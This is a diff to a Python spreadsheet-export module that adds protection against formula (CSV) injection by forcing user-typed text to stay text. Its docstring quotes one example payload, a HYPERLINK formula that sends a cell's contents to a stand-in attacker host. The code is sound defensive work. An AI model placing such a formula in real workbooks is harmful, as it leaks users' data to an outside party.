@@ -1,5 +1,9 @@
 """Spreadsheets (openpyxl): each report table as a sheet with Vietnamese headers, the cut-off date and the filters
-written above it, real dates, percentages as numbers with a percent format, an autofilter and print titles."""
+written above it, real dates, percentages as numbers with a percent format, an autofilter and print titles.
+
+Every cell goes through `_cell`, and every text in it through `as_text`: whatever an agency or a voter typed
+is data, never a formula (OWASP, "CSV injection"): a reason like =HYPERLINK("http://evil.example/?d="&B2)
+must not become a live link in the committee's workbook."""
 from __future__ import annotations
 
 import io
@@ -46,6 +50,22 @@ def _width(headers: list[str], rows: list[list], column: int) -> float:
     return min(max(max(len(_text(v)) for v in sample) + 2, 8), MAX_WIDTH)
 
 
+# What makes Excel (or LibreOffice, or a CSV reader) start a formula or a DDE call at the start of a cell.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def is_formula_like(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def as_text(cell) -> None:
+    """Keep a text cell a text: a string type (openpyxl would store "=..." as a formula) and Excel's quote
+    prefix (the apostrophe of '=1+1), so that editing the cell later does not turn it into a formula either."""
+    if is_formula_like(cell.value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+
+
 def _cell(ws, value, bold: bool = False):
     """One cell with its type kept: dates and timestamps as dates, shares as numbers shown in percent."""
     if isinstance(value, Percent):
@@ -54,6 +74,7 @@ def _cell(ws, value, bold: bool = False):
         number_format = DATETIME_FORMAT if isinstance(value, datetime) else DATE_FORMAT if isinstance(value, date) \
             else None
     cell = WriteOnlyCell(ws, value=value)
+    as_text(cell)
     if number_format:
         cell.number_format = number_format
     elif isinstance(value, str) and len(value) > MAX_WIDTH:
